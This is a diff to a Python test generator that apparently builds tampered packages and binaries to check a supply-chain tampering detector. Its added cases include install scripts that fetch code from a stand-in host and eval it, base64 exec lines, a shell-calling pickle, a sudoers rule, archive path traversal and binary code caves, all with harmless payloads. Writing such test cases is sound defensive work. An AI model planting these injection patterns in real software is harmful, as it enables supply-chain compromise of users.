@@ -17,6 +17,7 @@ import subprocess
 import sys
 import tarfile
 import zipfile
+import zlib
 
 MARKER = b"COUNTERSIGN HARMLESS TEST PAYLOAD "
 NOISE = hashlib.shake_256(MARKER).digest(275 * 1024)
@@ -148,6 +149,46 @@ def pe_export(data):
     return bytes(data)
 
 
+def pe_flags(name, flags):
+    """A section gets rights."""
+
+    def change(data):
+        data = bytearray(data)
+        at = next(section[5] for section in pe_sections(data) if section[0] == name)
+        struct.pack_into("<I", data, at + 36, word(data, at + 36) | flags)
+        return bytes(data)
+
+    return change
+
+
+def pe_header_room(data):
+    """Code behind the table of the sections, where the headers have room."""
+    data = bytearray(data)
+    headers, count, table = pe_headers(data)
+    end, first = table + 40 * count, word(data, headers + 24 + 60)
+    assert first - end > 64 and not any(data[end:first]), "no room behind the table"
+    body = (MARKER * 20)[: first - end - 8]
+    data[end + 8 : end + 8 + len(body)] = body
+    return bytes(data)
+
+
+def pe_last_grown(data):
+    """The last section gets code at its end, and may be executed."""
+    data = bytearray(data)
+    headers, _, _ = pe_headers(data)
+    _, _, address, raw, offset, at = pe_sections(data)[-1]
+    assert offset + raw == len(data), "nothing behind the last section"
+    in_memory, in_file = struct.unpack_from("<II", data, headers + 24 + 32)
+    body = b"\x90" * 16 + MARKER * 200
+    body += bytes(-len(body) % in_file)
+    struct.pack_into("<II", data, at + 8, raw + len(body), address)
+    struct.pack_into("<I", data, at + 16, raw + len(body))
+    struct.pack_into("<I", data, at + 36, word(data, at + 36) | 0x20000000)
+    size = address + raw + len(body)
+    struct.pack_into("<I", data, headers + 24 + 56, size + -size % in_memory)
+    return bytes(data) + body
+
+
 def without_signature(data):
     data = bytearray(data)
     directory = pe_directory(data, 4)
@@ -220,6 +261,34 @@ def certificate(fields):
     fields[place] = (0xA0, fields[place][1] + der(0x30, body + algorithm + der(3, b"\0\x01")))
 
 
+def revocations(fields):
+    place = next(number for number, (tag, _) in enumerate(fields) if tag == 0xA0)
+    fields.insert(place + 1, (0xA1, der(0x30, der(4, NOISE[:20000]))))
+
+
+def second_signer(fields):
+    tag, signers = fields[-1]
+    fields[-1] = (tag, signers + der(0x30, der(2, b"\x01") + der(4, NOISE[:9000])))
+
+
+def no_timestamp(fields):
+    """An attribute of a kind that signers use, and that holds something else."""
+    tag, signers = fields[-1]
+    _, signer, _ = der_split(signers)
+    signer = der_children(signer)
+    extra = der(0x30, der(6, bytes.fromhex("2b060104018237030301")) + der(0x31, der(4, NOISE[:12000])))
+    if signer[-1][0] == 0xA1:
+        signer[-1] = (0xA1, signer[-1][1] + extra)
+    else:
+        signer.append((0xA1, extra))
+    fields[-1] = (tag, der(0x30, joined(signer)))
+
+
+def third_element(structure):
+    _, outer, _ = der_split(structure)
+    return der(0x30, outer + der(4, NOISE[:20000]))
+
+
 def entry(kind, content):
     length = (8 + len(content) + 7) // 8 * 8
     return (struct.pack("<IHH", length, 0x200, kind) + content).ljust(length, b"\0")
@@ -245,6 +314,14 @@ def hidden(way):
             table = entry(2, with_signed_data(structure, attribute))
         elif way == "certificate":
             table = entry(2, with_signed_data(structure, certificate))
+        elif way == "revocations":
+            table = entry(2, with_signed_data(structure, revocations))
+        elif way == "second-signer":
+            table = entry(2, with_signed_data(structure, second_signer))
+        elif way == "no-timestamp":
+            table = entry(2, with_signed_data(structure, no_timestamp))
+        elif way == "third-element":
+            table = entry(2, third_element(structure))
         changed = bytearray(data[:start])
         struct.pack_into("<I", changed, directory + 4, len(table))
         return bytes(changed) + table + (NOISE if way == "overlay" else b"")
@@ -335,16 +412,74 @@ def elf_first(data):
     return bytes(data)
 
 
-def elf_note(data):
-    """A segment that says something becomes one that is loaded, writable and executable."""
+def elf_note(data, rights=7):
+    """A segment that says something becomes one that is loaded, with these rights."""
     data = bytearray(data)
     data.extend(bytes(-len(data) % 4096))
     for at in elf_segments(data):
         if word(data, at) == 4:
             body = b"\xc3" + MARKER * 100
-            struct.pack_into("<IIQQQQQQ", data, at, 1, 7, len(data), 0x10000000, 0x10000000, len(body), len(body), 4096)
+            struct.pack_into("<IIQQQQQQ", data, at, 1, rights, len(data), 0x10000000, 0x10000000, len(body), len(body), 4096)
             return bytes(data) + body
     raise ValueError("no note")
+
+
+def elf_code(data):
+    """Code behind the code segment, up to the next page; the segment is made to cover it."""
+    data = bytearray(data)
+    for at in elf_segments(data):
+        kind, flags, offset, _, _, size, _, _ = struct.unpack_from("<IIQQQQQQ", data, at)
+        if kind == 1 and flags & 1:
+            end = offset + size
+            room = next((number for number, byte in enumerate(data[end : end + 4096]) if byte), 4096)
+            assert room > 100, "no room behind the code"
+            body = (b"\xc3" + MARKER * 9)[: min(room - 8, 200)]
+            data[end : end + len(body)] = body
+            struct.pack_into("<QQ", data, at + 32, size + len(body), size + len(body))
+            return bytes(data)
+    raise ValueError("no code segment")
+
+
+def elf_initial(data):
+    """What runs first (`DT_INIT`) is another place of the code."""
+    data = bytearray(data)
+    at = next(at for at in elf_dynamic(data) if word(data, at, "<q") == 12)
+    struct.pack_into("<Q", data, at + 8, word(data, at + 8, "<Q") + 0x400)
+    return bytes(data)
+
+
+def macho_signed_again(data):
+    """The digests of an ad-hoc signature, made anew as its tool makes them."""
+    data = bytearray(data)
+    at = 32
+    for _ in range(word(data, 16)):
+        kind, size = struct.unpack_from("<II", data, at)
+        if kind == 0x1D:
+            blob = word(data, at + 8)
+            for number in range(word(data, blob + 8, ">I")):
+                slot, offset = struct.unpack_from(">II", data, blob + 12 + 8 * number)
+                if slot in (0, 0x1000):
+                    directory = blob + offset
+                    hashes, _, _, count, limit = struct.unpack_from(">IIIII", data, directory + 16)
+                    length, page = data[directory + 36], 1 << data[directory + 39]
+                    make = hashlib.sha256 if data[directory + 37] == 2 else hashlib.sha1
+                    for slot in range(count):
+                        digest = make(bytes(data[slot * page : min((slot + 1) * page, limit)])).digest()[:length]
+                        data[directory + hashes + slot * length : directory + hashes + (slot + 1) * length] = digest
+        at += size
+    return bytes(data)
+
+
+def macho_moved(data):
+    """A library of the system's name, in a folder that everybody can write."""
+    data = bytearray(data)
+    count, size = word(data, 16), word(data, 20)
+    name = b"/tmp/libSystem.B.dylib".ljust(32, b"\0")
+    command = struct.pack("<IIIIII", 0xC, 24 + len(name), 24, 0, 0, 0) + name
+    assert not any(data[32 + size : 32 + size + len(command)]), "no room for a load command"
+    data[32 + size : 32 + size + len(command)] = command
+    struct.pack_into("<II", data, 16, count + 1, size + len(command))
+    return macho_signed_again(bytes(data))
 
 
 def macho_dylib(data):
@@ -436,6 +571,23 @@ def package(scripts):
     return change
 
 
+def manifest(change):
+    def edit(data):
+        document = json.loads(data)
+        change(document)
+        return json.dumps(document, indent=2).encode()
+
+    return edit
+
+
+def picture():
+    """The smallest picture, and something behind its end."""
+    chunk = lambda kind, body: struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
+    head = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
+    parts = chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0\0")) + chunk(b"IEND", b"")
+    return b"\x89PNG\r\n\x1a\n" + parts + NOISE[:4000]
+
+
 def appended(text):
     return lambda data: data + text
 
@@ -484,6 +636,18 @@ def on_npm(name, member, change=None, add=None):
         old, new = (cache.file(f"npm-esbuild-{version}-") for version in ("0.24.0", "0.24.2" if twin == "next" else "0.24.0"))
         target = os.path.join(folder, os.path.basename(new))
         tarred(new, target, change and {member: change}, add)
+        return old, target, member
+
+    attack(name, make)
+
+
+def on_npm_entries(name, member, entries):
+    """More entries of the archive, as they are."""
+
+    def make(cache, folder, twin):
+        old, new = (cache.file(f"npm-esbuild-{version}-") for version in ("0.24.0", "0.24.2" if twin == "next" else "0.24.0"))
+        target = os.path.join(folder, os.path.basename(new))
+        tarred(new, target, None, entries)
         return old, target, member
 
     attack(name, make)
@@ -638,7 +802,17 @@ def set_user(content):
     os.chmod(os.path.join(content, "usr/bin/tool"), 0o4755)
 
 
-for way in ("behind", "gap", "entry", "unknown-entry", "attribute", "certificate", "overlay"):
+HEXADECIMAL = b"var _0x4f2a=['x'];(function(_0x1a2b,_0x3c4d){while(--_0x3c4d){_0x1a2b['push'](_0x1a2b['shift']());}}(_0x4f2a,0x1b3));var _0x2c1d=function(_0x9a01){return _0x4f2a[_0x9a01-0x0];};"
+
+
+def rule(content):
+    path = os.path.join(content, "etc/sudoers.d/extra")
+    os.makedirs(os.path.dirname(path))
+    with open(path, "w") as out:
+        out.write("nobody ALL=(ALL) NOPASSWD: /bin/true\n")
+
+
+for way in ("behind", "gap", "entry", "unknown-entry", "attribute", "certificate", "overlay", "revocations", "second-signer", "no-timestamp", "third-element"):
     on_signed(f"signed library, bytes hidden: {way}", hidden(way))
 on_signed("signed library, code changed", pe_code)
 on_signed("signed library, signature removed and code changed", lambda data: pe_code(without_signature(data)))
@@ -685,6 +859,33 @@ on_msi("MSI, bytes hidden in the signature block of its library", "app.dll", hid
 on_msi("MSI, code of its signed library changed", "app.dll", pe_code)
 on_deb("deb, maintainer script that fetches and runs", "postinst", hook)
 on_deb("deb, program becomes set-user-ID", "usr/bin/tool", set_user)
+
+
+# What a hold-out showed to be missed.
+on_wheel("PE, constants made executable", "cryptography", ["43.0.1", "43.0.3"], "windows", "_rust.pyd", pe_flags(b".rdata", 0x20000000))
+on_numpy("PE, code behind the table of the sections", "windows", pe_header_room)
+on_numpy("PE, last section grown and executable", "windows", pe_last_grown)
+on_numpy("ELF, note made a loaded segment of code", "linux", lambda data: elf_note(data, 5))
+on_numpy("ELF, code behind the code segment", "linux", elf_code)
+on_numpy("ELF, other function runs first", "linux", elf_initial)
+on_numpy("Mach-O, library of the system's name elsewhere", "macos", macho_moved)
+on_numpy("wheel, script that decodes and runs in one breath", "linux", appended(b"\nexec(__import__('base64').b64decode('cHJpbnQoMSk='))\n"), member="numpy/__init__.py")
+on_numpy("wheel, script that runs what it fetches", "linux", appended(b"\nimport urllib.request as r\nexec(r.urlopen('https://countersign.invalid/x').read())\n"), member="numpy/version.py")
+on_numpy("wheel, script with letters of another script", "linux", appended("\ndef v\u0435rsion():\n    pass\n".encode()), member="numpy/version.py")
+on_numpy("wheel, script with code beyond the screen", "linux", appended(b"\nx = 1" + b" " * 400 + b";__import__('os').getpid()\n"), member="numpy/version.py")
+on_numpy("wheel, pickle that calls a shell", "linux", add={"numpy/model.pkl": b"cposix\nsystem\n(S'true'\ntR."}, member="numpy/model.pkl")
+on_numpy("wheel, bytecode without its source", "linux", add={"numpy/extra.pyc": b"\xcb\r\r\n" + bytes(12) + b"\xe3" + bytes(60)}, member="numpy/extra.pyc")
+on_numpy("wheel, picture with data behind it", "linux", add={"numpy/logo.png": picture()}, member="numpy/logo.png")
+on_numpy("wheel, library under the name of the system's", "windows", add={"numpy/version.dll": open("/bin/true", "rb").read()}, member="numpy/version.dll")
+on_npm("npm, dependency from a repository", "package.json", manifest(lambda document: document.setdefault("optionalDependencies", {}).update({"harmless": "git+https://countersign.invalid/x.git"})))
+on_npm("npm, lock file of another host", "npm-shrinkwrap.json", None, {"package/npm-shrinkwrap.json": b'{"packages":{"node_modules/harmless":{"resolved":"https://countersign.invalid/x.tgz"}}}'})
+on_npm("npm, script with names of an obfuscator", "lib/main.js", appended(b"\n" + HEXADECIMAL.replace(b";", b";\n") + b"\n"))
+on_npm("npm, script that runs what arrives", "install.js", appended(b"\nrequire('https').get('https://countersign.invalid/',(r)=>{r.on('data',(c)=>{eval(c)})})\n"))
+on_npm("npm, task that an editor runs", ".vscode/tasks.json", None, {"package/.vscode/tasks.json": b'{"tasks":[{"command":"true","runOptions":{"runOn":"folderOpen"}}]}'})
+on_npm_entries("npm, one name twice", "package/install.js", {"package/install.js": b"console.log(1)\n"})
+on_npm_entries("npm, name that leads out of the archive", ".bashrc", {"package/../../.bashrc": b"true\n"})
+on_msi("MSI, service", "ServiceInstall", action='<DirectoryRef Id="INSTALLDIR"><Component Id="Service" Guid="ABCDDCBA-83F1-4F22-985B-FDB3C8ABD473"><File Id="Program" Name="harmless.exe" Source="app.dll" KeyPath="yes"/><ServiceInstall Id="Install" Name="harmless" Type="ownProcess" Start="auto" ErrorControl="normal"/></Component></DirectoryRef><Feature Id="Extra" Level="1"><ComponentRef Id="Service"/></Feature>')
+on_deb("deb, rule of sudo", "etc/sudoers.d/extra", rule)
 
 
 def archive_in_archive():
